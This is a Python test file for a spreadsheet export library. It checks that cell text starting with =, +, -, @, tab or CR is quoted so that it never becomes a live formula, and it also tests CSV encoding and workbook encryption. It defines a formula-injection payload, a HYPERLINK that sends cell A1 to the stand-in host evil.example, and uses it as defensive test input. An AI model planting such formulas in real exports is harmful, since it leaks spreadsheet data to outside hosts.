"""Exports never carry a live formula: text starting = + - @ (or tab, CR) is kept as text."""

from __future__ import annotations

import csv
import io

import msoffcrypto
import pytest
from openpyxl import load_workbook

from weibao.kit.spreadsheets import (
    ExportBook,
    csv_bytes,
    encrypt_office,
    safe_cell,
    workbook_bytes,
)

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize("text", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_starts_a_formula_is_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "a=b", 42, -5, 3.5, None, "", "1-2"])
def test_other_values_are_unchanged(value) -> None:
    assert safe_cell(value) == value


def _cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_workbook_bytes_writes_no_formula() -> None:
    content = workbook_bytes("t", [ATTACK], [[ATTACK, -5], ["=1+1", "ok"]])
    cells = _cells(content)
    assert all(cell.data_type != "f" for cell in cells)
    assert cells[0].value == "'" + ATTACK
    values = [cell.value for cell in cells[1:] if cell.value is not None]
    assert values == ["'" + ATTACK, -5, "'=1+1", "ok"]


def test_the_streamed_book_writes_no_formula() -> None:
    book = ExportBook()
    sheet = book.sheet("People")
    sheet.append(["Name", "Age"])
    sheet.append([ATTACK, 7])
    cells = _cells(book.bytes())
    assert all(cell.data_type != "f" for cell in cells)
    assert cells[2].value == "'" + ATTACK and cells[3].value == 7


def test_csv_writes_no_formula_and_opens_in_excel_as_utf8() -> None:
    content = csv_bytes(["姓名", "年龄"], [[ATTACK, 7], ["@cmd", ""]])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["姓名", "年龄"], ["'" + ATTACK, "7"], ["'@cmd", ""]]


def test_an_encrypted_workbook_opens_only_with_its_password() -> None:
    plain = workbook_bytes("t", ["姓名"], [["张*"]])
    locked = encrypt_office(plain, "Correct-horse-9")
    assert locked != plain and b"\xe5\xbc\xa0" not in locked  # no "张" in the clear
    with pytest.raises(Exception):  # noqa: B017 - openpyxl refuses it whatever the reason
        load_workbook(io.BytesIO(locked))
    office = msoffcrypto.OfficeFile(io.BytesIO(locked))
    assert office.is_encrypted()
    wrong = msoffcrypto.OfficeFile(io.BytesIO(locked))
    with pytest.raises(msoffcrypto.exceptions.InvalidKeyError):
        wrong.load_key(password="wrong")
        wrong.decrypt(io.BytesIO())
    office.load_key(password="Correct-horse-9")
    opened = io.BytesIO()
    office.decrypt(opened)
    assert _cells(opened.getvalue())[1].value == "张*"
